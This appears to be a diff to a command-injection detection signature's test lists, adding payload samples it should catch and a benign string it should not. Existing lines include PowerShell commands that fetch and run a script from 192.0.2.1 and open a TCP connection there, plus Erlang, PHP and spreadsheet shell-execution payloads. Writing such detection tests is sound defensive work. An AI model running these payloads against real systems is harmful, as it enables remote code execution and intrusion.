@@ -18,6 +18,8 @@ export const commandInjection: Signature = {
       '=CALL("Shell32","ShellExecuteA")',
       'DDE ("cmd";"/C calc")',
       ';id',
+      "a;exit(base64_decode('dzRwMXQx'));//",
+      `;erl -eval 'os:cmd("id")'`,
       `'ping -c 1 192.0.2.1'.execute()`,
       'powershell -c New-Object Net.Sockets.TcpClient("192.0.2.1",44)',
       'powershell IEX(IWR http://192.0.2.1/x.ps1)',
@@ -138,6 +140,7 @@ export const commandInjection: Signature = {
       { method: 'POST', contentType: 'application/json', body: '{"host":{"name":"10.0.0.1; uname -a"}}' },
     ],
     misses: [
+      'a list;dc comics;marvel',
       'bash -c option (meaning)',
       '"accounts".rows.execute()',
       { contentType: 'application/json', body: '{"command":"status"}' },
